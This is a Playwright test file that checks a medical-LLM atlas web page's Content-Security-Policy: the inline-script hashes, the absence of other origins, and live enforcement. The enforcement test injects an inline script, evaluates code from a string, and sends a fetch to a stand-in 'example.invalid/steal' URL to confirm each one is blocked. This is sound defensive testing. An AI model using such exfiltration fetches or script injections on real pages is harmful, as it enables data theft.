// The Content-Security-Policy: index.html carries a <meta> policy allowing only the page's own
// files ('self'), plus 'wasm-unsafe-eval' for the WASM and the hashes of the two inline scripts.
// Using everything the page offers (every view, every dialog, every download, a reader's CSV)
// raises no `securitypolicyviolation` and reaches no other origin; and the policy is live:
// an injected inline script, eval and a fetch to another origin are refused with a violation.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { test, expect } from './support/fixtures.mjs';
import { Atlas } from './support/atlas.mjs';
import { loadModels } from './support/data.mjs';

const models = loadModels();
const VIEWS = ['overview', 'models', 'timeline', 'sources', 'story-pathology', 'story-hospitals'];

/** Collects every CSP violation of the page from its very first script on. */
async function watchViolations(page) {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile });
    });
  });
  return () => page.evaluate(() => window.__cspViolations);
}

/** Parses a policy into { directive: [sources] }. */
const parsePolicy = (text) => Object.fromEntries(text.split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
  const [name, ...sources] = d.split(/\s+/);
  return [name, sources];
}));

test('index.html carries a self-only policy with the inline scripts\' hashes', async ({ page }) => {
  const response = await page.request.get('./index.html');
  expect(response.ok()).toBe(true);
  const html = await response.text();
  const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/g)];
  expect(metas, 'one CSP meta').toHaveLength(1);
  // It comes before anything it must govern.
  expect(html.indexOf(metas[0][0])).toBeLessThan(html.search(/<script|<link/));
  const policy = parsePolicy(metas[0][1]);

  // The two inline scripts, the loader and the first-screen chooser, are allowed by their hashes
  // and nothing else inline is.
  const inline = [...html.matchAll(/<script(?: type=["']?module["']?)?>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  expect(inline).toHaveLength(2);
  expect(html.match(/<script/g)).toHaveLength(2);
  const hashes = inline.map((s) => `'sha256-${createHash('sha256').update(s, 'utf8').digest('base64')}'`);
  expect(policy['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'", ...hashes]);
  expect(policy['default-src']).toEqual(["'self'"]);
  expect(policy['style-src']).toEqual(["'self'"]);
  expect(policy['connect-src']).toEqual(["'self'"]);
  expect(policy['object-src']).toEqual(["'none'"]);
  // No directive names another origin or a wildcard, or weakens script/style.
  for (const [name, sources] of Object.entries(policy)) {
    for (const s of sources) {
      expect(["'self'", "'none'", "'wasm-unsafe-eval'", ...hashes, 'data:', 'blob:'], `${name} ${s}`).toContain(s);
      if (s === 'data:' || s === 'blob:') expect(name, `${s} only for images`).toBe('img-src');
    }
  }
  // The served page is the built one.
  expect(html).toBe(readFileSync(new URL('../../dist/index.html', import.meta.url), 'utf8'));

  // The browser applies the same policy: the document's meta is the one served.
  await page.goto('./');
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', metas[0][1]);
});

test('every view, dialog, download and a reader\'s CSV: no violation, no other origin', async ({ page }) => {
  test.setTimeout(60_000);
  const violations = await watchViolations(page);
  const origins = new Set();
  page.context().on('request', (r) => origins.add(new URL(r.url()).origin));
  const atlas = new Atlas(page);
  await atlas.open();
  const self = new URL(page.url()).origin;

  for (const view of VIEWS) {
    await atlas.tab(view).click();
    await atlas.expectView(view);
    await expect(atlas.resultCount).toBeVisible();
  }

  // Downloads: the models and survey CSVs and a chart as PNG and SVG.
  await atlas.tab('overview').click();
  await expect(atlas.categoryChart.locator('.hit').first()).toBeAttached();
  const downloads = [
    [page.getByTestId('download-models'), /^medllm-atlas-models-overview-\d{4}-\d{2}-\d{2}\.csv$/],
    [page.getByTestId('download-survey'), /^medllm-atlas-survey-\d{4}-\d{2}-\d{2}\.csv$/],
    [page.getByTestId('category-chart-png'), /^medllm-atlas-category-overview-\d{4}-\d{2}-\d{2}\.png$/],
    [page.getByTestId('category-chart-svg'), /^medllm-atlas-category-overview-\d{4}-\d{2}-\d{2}\.svg$/],
    [page.getByTestId('save-offline'), /^medllm-atlas-offline\.html$/],
  ];
  for (const [button, name] of downloads) {
    const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
    expect(download.suggestedFilename()).toMatch(name);
    expect(await download.failure()).toBeNull();
    expect(readFileSync(await download.path()).length).toBeGreaterThan(100);
  }

  // Dialogs: embed, cite, the provenance panel.
  await page.getByTestId('open-embed').click();
  await expect(atlas.embedDialog).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(atlas.embedDialog).toBeHidden();
  await page.getByTestId('open-cite').click();
  await expect(atlas.citeDialog).toBeVisible();
  await page.keyboard.press('Escape');
  await atlas.tab('models').click();
  await atlas.openButton(models[0].id).click();
  await expect(atlas.provenance).toBeVisible();
  await page.keyboard.press('Escape');

  // A reader's CSV: the review dialog, then its valid rows in every view.
  await atlas.chooseFile('mixed.csv');
  await expect(atlas.fileReview).toBeVisible();
  await atlas.loadValid.click();
  await expect(atlas.userBanner).toBeVisible();
  for (const view of VIEWS) {
    await atlas.tab(view).click();
    await atlas.expectView(view);
  }
  await atlas.backToAtlas.click();
  await expect(atlas.userBanner).toHaveCount(0);

  expect(await violations(), 'CSP violations').toEqual([]);
  expect([...origins].filter((o) => o !== self && o !== 'null'), 'origins other than the page\'s').toEqual([]);
});

test('the policy is enforced: inline script, eval and another origin are refused', async ({ page, watched }) => {
  const violations = await watchViolations(page);
  const atlas = new Atlas(page);
  await atlas.open();
  expect(await violations()).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.head.append(s);
    // A string timer compiles code from a string when it fires, outside this evaluation (which
    // DevTools exempts from the policy), so the policy decides.
    window.__evalRan = false;
    setTimeout('window.__evalRan = true', 0);
    let fetched = 'no error';
    try { await fetch('https://example.invalid/steal?x=1'); fetched = 'fetched'; } catch (e) { fetched = e.name; }
    // Violation events are dispatched asynchronously.
    await new Promise((r) => setTimeout(r, 200));
    return { inlineRan: window.__inlineRan === true, evalRan: window.__evalRan, fetched };
  });
  expect(outcome).toEqual({ inlineRan: false, evalRan: false, fetched: 'TypeError' });

  const seen = await violations();
  const byDirective = (d) => seen.filter((v) => v.directive === d);
  expect(byDirective('script-src-elem'), 'inline script refused').toHaveLength(1);
  expect(byDirective('script-src-elem')[0].blocked).toBe('inline');
  expect(byDirective('script-src'), 'eval refused').toHaveLength(1);
  expect(byDirective('script-src')[0].blocked).toBe('eval');
  expect(byDirective('connect-src'), 'fetch to another origin refused').toHaveLength(1);
  expect(byDirective('connect-src')[0].blocked).toMatch(/^https:\/\/example\.invalid\//);
  expect(seen).toHaveLength(3);

  // The browser logs each refusal as a console error; these three are expected here, so they
  // are taken off the fixture's list — anything else still fails the test.
  const refusals = watched.errors.filter((e) => /Content Security Policy/.test(e));
  expect(refusals.length).toBeGreaterThanOrEqual(3);
  watched.errors.splice(0, watched.errors.length, ...watched.errors.filter((e) => !/Content Security Policy/.test(e)));
  expect(watched.external, 'the refused fetch never left').toEqual([]);
});
